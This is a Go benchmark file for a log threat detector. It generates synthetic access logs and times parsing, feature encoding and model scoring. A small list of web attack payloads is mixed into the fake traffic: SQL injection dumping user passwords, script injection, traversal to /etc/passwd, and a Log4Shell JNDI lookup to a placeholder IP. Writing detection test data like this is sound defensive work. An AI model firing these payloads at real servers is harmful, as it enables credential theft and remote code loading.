package core_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"testing"

	"github.com/tiercel/tiercel/core"
	"github.com/tiercel/tiercel/core/event"
	"github.com/tiercel/tiercel/core/feature"
	"github.com/tiercel/tiercel/core/model"
	"github.com/tiercel/tiercel/core/model/models"
)

// lineBytes is the mean length of the lines that speed is stated for.
const lineBytes = 225

var (
	benchPaths = []string{
		"/", "/index.html", "/products/%d", "/products/%d?ref=mail-%d", "/search?q=filter+no.+%d&page=%d", "/img/hero-%dx%d.webp",
		"/static/app.%x.js", "/api/v1/items?sort=price&limit=%d&offset=%d", "/account/orders/%d", "/blog/2026/%d/how-we-roast",
		"/checkout?step=%d&token=%x", "/news?utm_source=mail&utm_campaign=week%d",
	}
	benchAttacks = []string{
		"/products?id=%d%%27+UNION+SELECT+user,password+FROM+users--+-", "/search?q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E",
		"/static/..%%2f..%%2f..%%2f..%%2fetc%%2fpasswd?%d", "/?x=${jndi:ldap://203.0.113.66:%d/a}",
	}
	benchAgents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	}
)

// accessLog writes n lines of a web server's combined log: one in a hundred is
// an attack; the clients are many enough to fill the windows' table. Referrers
// are as long as it takes to make the lines lineBytes long on average.
func accessLog(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, 0))
	var out bytes.Buffer
	out.Grow(n * (lineBytes + 8))
	for i := range n {
		path := benchPaths[r.IntN(len(benchPaths))]
		if r.IntN(100) == 0 {
			path = benchAttacks[r.IntN(len(benchAttacks))]
		}
		numbers := []any{r.IntN(1000), r.IntN(1000)}
		wanted := bytes.Count([]byte(path), []byte("%")) - 2*bytes.Count([]byte(path), []byte("%%"))
		second := i / 50 % 86400
		from := out.Len()
		fmt.Fprintf(&out, `198.51.%d.%d - - [29/Jan/2026:%02d:%02d:%02d +0000] "GET `, r.IntN(256), r.IntN(256), second/3600, second/60%60, second%60)
		fmt.Fprintf(&out, path, numbers[:wanted]...)
		fmt.Fprintf(&out, ` HTTP/1.1" 200 %d "https://shop.example/`, 200+r.IntN(90000))
		agent := benchAgents[r.IntN(len(benchAgents))]
		for out.Len()-from < lineBytes-len(agent)-5 {
			out.WriteString("products/")
		}
		fmt.Fprintf(&out, "\" \"%s\"\n", agent)
	}
	return out.Bytes()
}

// benchModel returns the embedded HTTP model, or the samples' where none has
// been trained.
func benchModel(tb testing.TB) (m *model.Model, name string) {
	tb.Helper()
	data, ok := models.Default(event.HTTP)
	if !ok {
		return sampleOf(tb).models[0], "sample"
	}
	m, err := model.Read(data, model.Limits{})
	if err != nil {
		tb.Fatal(err)
	}
	return m, "default"
}

// stage does a part of the way from a log's bytes to verdicts.
type stage struct {
	name string
	run  func(tb testing.TB, log []byte) (lines int)
}

// BenchmarkScan measures the way of a combined log from bytes to verdicts on
// one core, and its parts, in lines a CPU second and as multiples of what a Go
// program needs that only splits lines. The ratios are of one run: they hold on
// a busy machine too.
func BenchmarkScan(b *testing.B) {
	m, name := benchModel(b)
	log := accessLog(250_000, 1)
	stages := stagesOf(b, m)
	b.Logf("%s HTTP model, %d base learners, %.0f bytes a line", name, len(m.Tiers.Bases), float64(len(log))/float64(stages[0].run(b, log)))
	for _, s := range stages {
		b.Run(s.name, func(b *testing.B) {
			b.SetBytes(int64(len(log)))
			b.ReportAllocs()
			var lines int
			var floor, spent float64 // CPU seconds
			for b.Loop() {
				at := cpuSeconds()
				for range floorRuns {
					stages[0].run(b, log)
				}
				between := cpuSeconds()
				lines += s.run(b, log)
				floor += (between - at) / floorRuns
				spent += cpuSeconds() - between
			}
			b.ReportMetric(float64(lines)/spent, "lines/cpu-s")
			b.ReportMetric(spent/floor, "x-floor")
		})
	}
}

// floorRuns is how often lines are only split beside each measured pass, so
// that what is a third of a millisecond is measured over a few.
const floorRuns = 8

// stagesOf returns the parts of the way; each includes those before it.
func stagesOf(tb testing.TB, m *model.Model) []stage {
	encoder, err := feature.EncoderOf(m.Kind)
	if err != nil {
		tb.Fatal(err)
	}
	engine := engineOf(tb, core.Options{Models: []*model.Model{m}, Workers: 1})
	hasty := engineOf(tb, core.Options{Models: []*model.Model{m}, Workers: 1, ThreatsOnly: true})
	combined := func(log []byte) *event.Reader {
		return readerOf(tb, "combined", bytes.NewReader(log), event.Options{})
	}
	var w struct { // what one worker keeps from batch to batch
		batch   event.Batch
		rows    feature.Batch
		seen    []feature.Observation
		scratch feature.Scratch
		raw     []float32
	}
	each := func(log []byte, do func()) (lines int) {
		r := combined(log)
		for r.Next(&w.batch) == nil {
			w.batch.Parse()
			do()
			lines += w.batch.Lines
		}
		return lines
	}
	encode := func() { encoder.Encode(&w.rows, &w.seen, &w.batch, &w.scratch) }
	return []stage{
		{"split", func(_ testing.TB, log []byte) int { return split(bytes.NewReader(log)) }},
		{"parse", func(_ testing.TB, log []byte) int { return each(log, func() {}) }},
		{"encode", func(_ testing.TB, log []byte) int { return each(log, encode) }},
		{"context", func(_ testing.TB, log []byte) int {
			windows := feature.NewContext(m.Kind, feature.ContextLimits{})
			return each(log, func() {
				encode()
				for i := range w.seen {
					windows.Update(w.rows.Row(i)[m.Schema.Stateless:], &w.seen[i])
				}
			})
		}},
		{"learners", func(tb testing.TB, log []byte) int {
			windows := feature.NewContext(m.Kind, feature.ContextLimits{})
			return each(log, func() {
				encode()
				for i := range w.seen {
					windows.Update(w.rows.Row(i)[m.Schema.Stateless:], &w.seen[i])
				}
				if cap(w.raw) < w.rows.N {
					w.raw = make([]float32, w.rows.N)
				}
				for _, base := range m.Tiers.Bases {
					if err := base.Learner.Score(w.raw[:w.rows.N], &w.rows); err != nil {
						tb.Fatal(err)
					}
				}
			})
		}},
		{"verdicts", func(tb testing.TB, log []byte) int {
			sum, err := engine.NewScan().File(context.Background(), "access.log", combined(log), func(*core.Result) error { return nil })
			if err != nil {
				tb.Fatal(err)
			}
			return int(sum.Lines)
		}},
		{"threats", func(tb testing.TB, log []byte) int {
			sum, err := hasty.NewScan().File(context.Background(), "access.log", combined(log), func(*core.Result) error { return nil })
			if err != nil {
				tb.Fatal(err)
			}
			return int(sum.Lines)
		}},
	}
}

// split reads a stream and finds the line ends: what any Go program that reads
// a log has to do.
func split(r io.Reader) (lines int) {
	in := bufio.NewReaderSize(r, 64<<10)
	for {
		chunk, err := in.Peek(in.Size())
		for from := 0; ; {
			n := bytes.IndexByte(chunk[from:], '\n')
			if n < 0 {
				break
			}
			lines++
			from += n + 1
		}
		in.Discard(len(chunk))
		if err != nil {
			return lines
		}
	}
}

// BenchmarkLearner measures each base learner of the HTTP model alone.
func BenchmarkLearner(b *testing.B) {
	m, _ := benchModel(b)
	encoder, err := feature.EncoderOf(m.Kind)
	if err != nil {
		b.Fatal(err)
	}
	var batch event.Batch
	var rows feature.Batch
	var seen []feature.Observation
	var scratch feature.Scratch
	if err := readerOf(b, "combined", bytes.NewReader(accessLog(1000, 1)), event.Options{}).Next(&batch); err != nil {
		b.Fatal(err)
	}
	batch.Parse()
	encoder.Encode(&rows, &seen, &batch, &scratch)
	windows := feature.NewContext(m.Kind, feature.ContextLimits{})
	for i := range seen {
		windows.Update(rows.Row(i)[m.Schema.Stateless:], &seen[i])
	}
	raw := make([]float32, rows.N)
	for _, base := range m.Tiers.Bases {
		b.Run(base.Learner.Info().ID, func(b *testing.B) {
			b.ReportAllocs()
			at := cpuSeconds()
			for b.Loop() {
				if err := base.Learner.Score(raw, &rows); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric((cpuSeconds()-at)*1e9/float64(b.N)/float64(rows.N), "cpu-ns/row")
		})
	}
}
